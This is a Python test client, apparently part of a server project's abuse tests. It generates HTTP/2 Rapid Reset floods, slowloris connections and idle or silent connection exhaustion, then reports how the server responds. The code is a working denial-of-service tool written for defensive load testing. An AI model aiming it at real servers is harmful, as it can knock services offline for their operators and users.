#!/usr/bin/python3
"""The abuse patterns of issue 11, as a client that ignores the rules.

Usage: abuse_load.py PATTERN --address=127.0.0.1:PORT [options]; prints one
JSON object on stdout with what it saw, and exits 0 (1 on a usage or setup
error). It never decides pass or fail: the test that runs it does.

How it works, per pattern (loopback, bounded in time, one thread):
  rapid-reset  one TCP connection; the HTTP/2 preface, then --streams
               HEADERS frames for /counters.v1.CounterService/Increment,
               each followed by RST_STREAM(CANCEL) unless --no-reset. Frames
               are built by hand (python3-h2's hpack encoder for the
               headers), so the client does not obey the server's
               MAX_CONCURRENT_STREAMS the way a polite client would. It
               drains what the server sends, acks its SETTINGS, and stops
               early on GOAWAY or close. Reports the streams sent, GOAWAYs,
               RST_STREAMs received and the server's MAX_CONCURRENT_STREAMS.
  slowloris    --conns connections, each sending the HTTP/2 preface one byte
               every --interval seconds for --seconds. Reports how many the
               server closed, and when (seconds after connect).
  idle         --conns connections, each sending a complete preface
               (magic + empty SETTINGS) and then nothing, held for --seconds.
               A connection counts as accepted if the server answers with
               its SETTINGS, refused if it is reset or closed before that.
               Reports accepted, refused, and those closed later.
  silent       like idle but sends nothing at all (handshake timeout).
"""

import argparse
import json
import resource
import select
import socket
import struct
import sys
import time

from hpack import Encoder

MAGIC = b"PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n"
DATA, HEADERS, RST_STREAM, SETTINGS, PING, GOAWAY, WINDOW_UPDATE = 0, 1, 3, 4, 6, 7, 8
END_STREAM, ACK, END_HEADERS = 0x1, 0x1, 0x4


def frame(ftype, flags, stream, payload=b""):
    return struct.pack(">I", len(payload))[1:] + struct.pack(">BBI", ftype, flags, stream) + payload


def connect(address, timeout=10.0):
    host, port = address.rsplit(":", 1)
    s = socket.create_connection((host.strip("[]"), int(port)), timeout=timeout)
    s.setsockopt(socket.IPPROTO_TCP, socket.TCP_NODELAY, 1)
    return s


class FrameReader:
    """Splits what the server sends into frames; counts what matters."""

    def __init__(self):
        self.buf = b""
        self.settings = {}
        self.got_settings = False
        self.goaways = 0
        self.rst_streams = 0
        self.closed = False
        self.pending_acks = 0

    def feed(self, data):
        self.buf += data
        while len(self.buf) >= 9:
            length = int.from_bytes(self.buf[0:3], "big")
            if len(self.buf) < 9 + length:
                break
            ftype, flags = self.buf[3], self.buf[4]
            payload = self.buf[9:9 + length]
            self.buf = self.buf[9 + length:]
            if ftype == SETTINGS and not flags & ACK:
                self.got_settings = True
                self.pending_acks += 1
                for i in range(0, len(payload), 6):
                    key, value = struct.unpack(">HI", payload[i:i + 6])
                    self.settings[key] = value
            elif ftype == GOAWAY:
                self.goaways += 1
            elif ftype == RST_STREAM:
                self.rst_streams += 1

    def pump(self, sock):
        """Reads whatever is there without blocking; acks SETTINGS."""
        sock.setblocking(False)
        while True:
            try:
                data = sock.recv(1 << 16, socket.MSG_DONTWAIT)
            except (BlockingIOError, InterruptedError):
                break
            except OSError:
                self.closed = True
                break
            if not data:
                self.closed = True
                break
            self.feed(data)
        while self.pending_acks and not self.closed:
            self.pending_acks -= 1
            if not send_all(sock, frame(SETTINGS, ACK, 0), 10.0):
                self.closed = True


def send_all(sock, data, timeout):
    """Sends all of `data` on a non-blocking socket; False if the peer is gone
    or it takes longer than `timeout` seconds."""
    sock.setblocking(False)
    view = memoryview(data)
    end = time.monotonic() + timeout
    while view:
        try:
            n = sock.send(view)
            view = view[n:]
        except (BlockingIOError, InterruptedError):
            left = end - time.monotonic()
            if left <= 0:
                return False
            select.select([], [sock], [], left)
        except OSError:
            return False
    return True


def rapid_reset(args):
    sock = connect(args.address)
    sock.sendall(MAGIC + frame(SETTINGS, 0, 0))
    reader = FrameReader()
    # Wait for the server's SETTINGS first, as a real client (and the real
    # attack) does: it says what the server advertises, whatever the load.
    settings_by = time.monotonic() + 20.0
    while not reader.got_settings and not reader.closed and time.monotonic() < settings_by:
        select.select([sock], [], [], 0.1)
        reader.pump(sock)
    encoder = Encoder()
    sent = 0
    stream = 1
    start = time.monotonic()
    deadline = start + args.seconds
    batch = []
    while sent < args.streams and time.monotonic() < deadline and not reader.closed:
        block = encoder.encode([
            (":method", "POST"), (":scheme", "http"), (":authority", args.address),
            (":path", "/counters.v1.CounterService/Increment"),
            ("content-type", "application/grpc"), ("te", "trailers"),
        ])
        batch.append(frame(HEADERS, END_HEADERS, stream, block))
        if args.reset:
            batch.append(frame(RST_STREAM, 0, stream, struct.pack(">I", 8)))  # CANCEL
        stream += 2
        sent += 1
        if len(batch) >= 200:
            # The server's replies are read between batches so that neither
            # side blocks on a full socket buffer.
            reader.pump(sock)
            if not send_all(sock, b"".join(batch), 10.0):
                reader.closed = True
            batch = []
            reader.pump(sock)
    if batch and not reader.closed:
        if not send_all(sock, b"".join(batch), 10.0):
            reader.closed = True
    elapsed = time.monotonic() - start
    # Let the server answer what it got, then close.
    end = time.monotonic() + 1.0
    while time.monotonic() < end and not reader.closed:
        select.select([sock], [], [], 0.1)
        reader.pump(sock)
    sock.close()
    return {"pattern": "rapid-reset", "streams_sent": sent, "seconds": round(elapsed, 3),
            "reset": args.reset, "goaways": reader.goaways, "rst_streams": reader.rst_streams,
            "server_closed": reader.closed,
            "max_concurrent_streams": reader.settings.get(3, -1)}


def slowloris(args):
    socks = []
    for _ in range(args.conns):
        socks.append(connect(args.address))
    start = time.monotonic()
    closed_at = {}
    sent = {s.fileno(): 0 for s in socks}
    next_send = start
    while time.monotonic() - start < args.seconds and len(closed_at) < len(socks):
        now = time.monotonic()
        if now >= next_send:
            for s in socks:
                if s.fileno() in closed_at:
                    continue
                i = sent[s.fileno()] % len(MAGIC)
                try:
                    s.send(MAGIC[i:i + 1])
                    sent[s.fileno()] += 1
                except OSError:
                    closed_at[s.fileno()] = now - start
            next_send += args.interval
        live = [s for s in socks if s.fileno() not in closed_at]
        readable, _, _ = select.select(live, [], [], max(0.0, next_send - time.monotonic()))
        for s in readable:
            try:
                data = s.recv(4096)
            except OSError:
                data = b""
            if not data:
                closed_at[s.fileno()] = time.monotonic() - start
    for s in socks:
        s.close()
    times = sorted(closed_at.values())
    return {"pattern": "slowloris", "conns": len(socks), "closed_by_server": len(times),
            "first_close_s": round(times[0], 3) if times else None,
            "last_close_s": round(times[-1], 3) if times else None,
            "seconds": round(time.monotonic() - start, 3)}


def hold(args, send_preface):
    # The client's own fd limit: one per connection plus slack (see
    # tests/abuse/CMakeLists.txt for the daemon's).
    soft, hard = resource.getrlimit(resource.RLIMIT_NOFILE)
    need = args.conns + 64
    if soft < need:
        resource.setrlimit(resource.RLIMIT_NOFILE, (min(need, hard), hard))
    socks, readers, connect_errors = [], [], 0
    start = time.monotonic()
    for _ in range(args.conns):
        try:
            s = connect(args.address)
            if send_preface:
                s.sendall(MAGIC + frame(SETTINGS, 0, 0))
            s.setblocking(False)
            socks.append(s)
            readers.append(FrameReader())
        except OSError:
            connect_errors += 1
    opened = time.monotonic() - start
    # A connection is decided once the server has sent SETTINGS (accepted) or
    # closed it (refused); wait until all are decided or --seconds pass.
    end = start + args.seconds
    refused_before_settings = 0
    decided = [False] * len(socks)
    while time.monotonic() < end:
        for i, s in enumerate(socks):
            if readers[i].closed:
                continue
            readers[i].pump(s)
            if readers[i].closed and not decided[i]:
                decided[i] = True
                if not readers[i].got_settings:
                    refused_before_settings += 1
            elif readers[i].got_settings:
                decided[i] = True
        if args.until_decided and all(decided):
            break
        live = [s for i, s in enumerate(socks) if not readers[i].closed]
        if live:
            select.select(live[:1000], [], [], 0.05)
        else:
            break
    accepted = sum(1 for r in readers if r.got_settings)
    still_open = sum(1 for r in readers if not r.closed)
    for s in socks:
        s.close()
    return {"pattern": "idle" if send_preface else "silent", "conns": args.conns,
            "connect_errors": connect_errors, "open_seconds": round(opened, 3),
            "accepted": accepted, "refused": refused_before_settings + connect_errors,
            "closed_by_server": sum(1 for r in readers if r.closed), "still_open": still_open,
            "seconds": round(time.monotonic() - start, 3)}


def main():
    p = argparse.ArgumentParser(description=__doc__, formatter_class=argparse.RawTextHelpFormatter)
    p.add_argument("pattern", choices=["rapid-reset", "slowloris", "idle", "silent"])
    p.add_argument("--address", required=True)
    p.add_argument("--streams", type=int, default=100000)
    p.add_argument("--no-reset", dest="reset", action="store_false")
    p.add_argument("--conns", type=int, default=100)
    p.add_argument("--interval", type=float, default=1.0)
    p.add_argument("--seconds", type=float, default=30.0)
    p.add_argument("--until-decided", action="store_true",
                   help="idle/silent: stop once every connection is accepted or closed")
    args = p.parse_args()
    try:
        if args.pattern == "rapid-reset":
            result = rapid_reset(args)
        elif args.pattern == "slowloris":
            result = slowloris(args)
        else:
            result = hold(args, send_preface=args.pattern == "idle")
    except OSError as e:
        print(json.dumps({"error": str(e)}))
        return 1
    print(json.dumps(result), flush=True)
    return 0


if __name__ == "__main__":
    sys.exit(main())
